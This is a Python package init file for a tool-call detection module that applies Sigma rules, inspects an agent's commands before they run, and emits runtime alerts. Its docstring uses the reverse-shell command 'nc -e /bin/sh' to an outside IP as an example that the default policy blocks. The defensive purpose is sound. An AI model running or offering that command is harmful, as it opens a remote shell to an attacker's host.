"""Detection: Sigma rules compiled once, tool-call inspection before a call runs, runtime alerts after.

detector = Detector.from_policy(policy)
inspection = detector.inspect_command("nc -e /bin/sh 203.0.113.5 4444", ctx=ctx)
inspection.verdict            # "block" under the default policy
alerts = detector.observe(event)   # alert Events for collector/egress events
"""

from corral.detect._analyze import Analysis, SimpleCommand, analyze
from corral.detect._detector import Detector, builtin_rule_paths
from corral.detect._fileops import FileOp
from corral.detect._model import (
    EVENT_LOGSOURCE,
    LOGSOURCES,
    Inspection,
    LoadReport,
    RuleInfo,
    RuleProblem,
    Verdict,
    verdict_for,
)

__all__ = [
    "EVENT_LOGSOURCE",
    "LOGSOURCES",
    "Analysis",
    "Detector",
    "FileOp",
    "Inspection",
    "LoadReport",
    "RuleInfo",
    "RuleProblem",
    "SimpleCommand",
    "Verdict",
    "analyze",
    "builtin_rule_paths",
    "verdict_for",
]
